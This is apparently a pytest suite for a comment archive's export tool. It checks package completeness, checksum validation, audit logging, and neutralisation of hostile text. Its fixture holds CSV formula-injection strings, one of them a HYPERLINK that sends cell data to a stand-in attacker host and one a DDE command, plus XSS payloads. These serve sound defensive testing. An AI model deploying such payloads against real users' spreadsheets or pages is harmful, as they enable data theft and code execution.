"""Exports a records officer hands over: complete, checkable, and harmless to open."""

from __future__ import annotations

import csv
import html.parser
import json
from pathlib import Path

import pytest
from conftest import comment
from records_data import bulk, hide_under, ingest

from moderator.archive import Archive
from moderator.errors import DataError
from moderator.export import export, neutralise, verify_package
from moderator.records.search import make_filters

HOSTILE = [
    comment("f1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", author_name="@SUM(1+1)"),
    comment("f2", "+1-555-0100 call me"),
    comment("f3", "-2+3"),
    comment("f4", "\tTAB=1+1"),
    comment("f5", "\r=cmd|'/c calc'!A0"),
    comment("x1", "<script>alert('x')</script><img src=x onerror=alert(1)>",
            author_name="<b onmouseover=alert(2)>Mallory</b>"),
    comment("x2", "</td></tr></table><iframe src=javascript:alert(3)></iframe>"),
]


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> tuple[Archive, Path]:
    """10,000 comments, 1,000 of them edited, some hidden under a rule, and their bag."""
    folder = tmp_path_factory.mktemp("big")
    archive = Archive.open(folder / "archive.db")
    archive.register_page("city", "facebook", "city", "City of Springfield")
    bulk(archive, 10_000)
    for number in range(0, 10_000, 500):
        hide_under(archive, f"b{number}", "threat")
    done = export(archive, make_filters(), "bag", folder / "package", agency="City of Springfield",
                  exporter="Records Officer")
    assert done.count == 10_000
    yield archive, folder / "package"
    archive.close()


def test_a_bag_of_10000_comments_holds_every_field_of_every_version(big) -> None:  # type: ignore[no-untyped-def]
    archive, package = big
    exported = {}
    with open(package / "data" / "comments.jsonl", encoding="utf-8") as handle:
        for line in handle:
            item = json.loads(line)
            exported[item["archive_id"]] = item
    assert len(exported) == 10_000
    for version in archive.query("SELECT * FROM comment_versions"):
        owner = version.pop("comment")
        assert version in exported[owner]["versions"]
    for row in archive.query("SELECT * FROM comments"):
        item = exported[row.pop("id")]
        row["version_count"] = row.pop("versions")
        assert {k: item[k] for k in row} == row
    hidden = [i for i in exported.values() if i["decisions"]]
    assert len(hidden) == 20
    assert all(i["actions"][0]["kind"] == "hide" and i["scores"][0]["evidence"] ==
               ["watch your back"] for i in hidden)


def test_the_package_validates_and_says_what_it_holds(big) -> None:  # type: ignore[no-untyped-def]
    _, package = big
    assert verify_package(package).ok
    info = (package / "bag-info.txt").read_text(encoding="utf-8")
    for expected in ("Source-Organization: City of Springfield", "Moderator-Record-Count: 10000",
                     "Moderator-Exporter: Records Officer", "Moderator-Query: all comments",
                     "Moderator-Date-Range: earliest to latest", "Moderator-Export-Time: "):
        assert expected in info
    assert (package / "manifest-sha256.txt").exists()
    assert (package / "manifest-sha512.txt").exists()


def test_one_changed_byte_in_the_10000_comment_bag_fails(big) -> None:  # type: ignore[no-untyped-def]
    _, package = big
    payload = package / "data" / "comments.jsonl"
    original = payload.read_bytes()
    middle = original.index(b"budget", len(original) // 2)
    payload.write_bytes(original[:middle] + b"B" + original[middle + 1:])
    try:
        result = verify_package(package)
        assert not result.ok and result.files == ["data/comments.jsonl"]
    finally:
        payload.write_bytes(original)
    assert verify_package(package).ok


def test_changing_one_byte_fails_validation_and_names_the_file(tmp_path: Path,
                                                               fresh_db: Archive) -> None:
    ingest(fresh_db, comment("c1", "Please fix the lights on Oak"))
    target = tmp_path / "bag"
    export(fresh_db, make_filters(), "bag", target, agency="City", exporter="clerk")
    payload = target / "data" / "comments.jsonl"
    data = bytearray(payload.read_bytes())
    data[data.index(b"Oak")] = ord("0")
    payload.write_bytes(bytes(data))
    result = verify_package(target)
    assert not result.ok and result.files == ["data/comments.jsonl"]


def test_each_export_is_an_audit_entry_with_the_manifest_checksum(tmp_path: Path,
                                                                  fresh_db: Archive) -> None:
    ingest(fresh_db, comment("c1", "Please fix the lights on Oak"))
    done = export(fresh_db, make_filters(text="lights"), "bag", tmp_path / "bag", agency="City",
                  exporter="clerk")
    entry = fresh_db.one("SELECT * FROM audit_log WHERE id = ?", [done.audit_id])
    details = json.loads(entry["details"])
    assert entry["actor"] == "clerk" and entry["action"] == "export"
    assert details["query"] == {"text": "lights"} and details["count"] == 1
    import hashlib

    manifest = (tmp_path / "bag" / "manifest-sha256.txt").read_bytes()
    assert details["sha256"] == hashlib.sha256(manifest).hexdigest()


def test_csv_cells_cannot_run_as_formulas(tmp_path: Path, fresh_db: Archive) -> None:
    ingest(fresh_db, *HOSTILE)
    export(fresh_db, make_filters(), "csv", tmp_path / "out.csv", agency="City", exporter="c")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    texts = {row["comment_id"]: row["text"] for row in rows}
    assert texts["f1"].startswith("'=HYPERLINK") and texts["f4"] == "'\tTAB=1+1"
    assert {row["author_name"] for row in rows} >= {"'@SUM(1+1)"}
    assert neutralise("plain") == "plain" and neutralise(None) == ""


class _Collector(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]


def test_hostile_text_in_the_html_index_stays_text(tmp_path: Path, fresh_db: Archive) -> None:
    ingest(fresh_db, *HOSTILE)
    export(fresh_db, make_filters(), "bag", tmp_path / "bag", agency="<i>City</i>", exporter="c")
    page = (tmp_path / "bag" / "data" / "index.html").read_text(encoding="utf-8")
    parser = _Collector()
    parser.feed(page)
    assert not {"script", "img", "iframe", "b", "i"} & set(parser.tags)
    assert not [a for a in parser.attributes if a.startswith("on")]
    assert "default-src 'none'" in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert page.count("<table>") == 1 and page.count("</table>") == 1


def test_jsonl_and_csv_exports_are_checked_against_their_sha256_file(tmp_path: Path,
                                                                     fresh_db: Archive) -> None:
    ingest(fresh_db, comment("c1", "Please fix the lights on Oak"))
    for fmt in ("jsonl", "csv"):
        target = tmp_path / f"out.{fmt}"
        export(fresh_db, make_filters(), fmt, target, agency="City", exporter="clerk")
        assert verify_package(target).ok
        target.write_bytes(target.read_bytes().replace(b"Oak", b"0ak"))
        assert verify_package(target).files == [target.name]


def test_an_export_never_overwrites(tmp_path: Path, fresh_db: Archive) -> None:
    (tmp_path / "taken").mkdir()
    with pytest.raises(DataError, match="already exists"):
        export(fresh_db, make_filters(), "bag", tmp_path / "taken", agency="C", exporter="c")
    with pytest.raises(DataError, match="format"):
        export(fresh_db, make_filters(), "xlsx", tmp_path / "x", agency="C", exporter="c")


@pytest.mark.parametrize("name", ["w.csv.gz", "-"])
def test_an_export_is_never_written_under_a_name_that_says_something_else(
        tmp_path: Path, fresh_db: Archive, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """"w.csv.gz" got plain CSV, and "-" a file named "-" rather than standard output."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DataError, match="an export is a plain csv file with its .sha256 beside"):
        export(fresh_db, make_filters(), "csv", name, agency="C", exporter="c")
    assert not (tmp_path / name).exists() and fresh_db.count("audit_log") == 0


def test_the_html_index_shows_what_was_edited_away(tmp_path: Path, fresh_db: Archive) -> None:
    """A requester who opens only index.html saw the last word alone: the version a resident
    edited away, with its <script>, was only in comments.jsonl."""
    ingest(fresh_db, comment("c1", "The clerk <script>x()</script> lied to me"),
           at="2026-01-01T00:00:00Z")
    ingest(fresh_db, comment("c1", "The clerk was unhelpful"), at="2026-01-02T00:00:00Z")
    export(fresh_db, make_filters(), "bag", tmp_path / "bag", agency="City", exporter="c")
    page = (tmp_path / "bag" / "data" / "index.html").read_text(encoding="utf-8")
    assert "The clerk was unhelpful<details><summary>1 earlier version(s)</summary>" in page
    assert ("version 1, seen 2026-01-01T00:00:00Z, visible: The clerk &lt;script&gt;x()"
            "&lt;/script&gt; lied to me") in page
    parser = _Collector()
    parser.feed(page)
    assert "script" not in parser.tags
